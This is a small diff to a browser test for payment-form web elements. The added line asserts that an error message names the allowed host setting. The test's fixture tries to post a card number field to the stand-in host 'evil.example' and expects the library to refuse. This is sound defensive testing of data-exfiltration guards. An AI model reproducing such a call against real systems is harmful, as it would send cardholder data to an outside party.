@@ -74,6 +74,7 @@ const checkWebElements = async (h, browser) => {
   assert.deepEqual([refused.error.name, refused.error.status], ['BasisTheoryApiError', 400]);
   const client = await attempt(h, page, "bt.client.post('https://evil.example', { number: el.number })");
   assert.equal(client.error.name, 'BasisTheoryConfigurationError');
+  assert.match(client.error.message, /pages\.elements_hosts/);
   await h.axe(page);
   await h.closePage(page);
 };
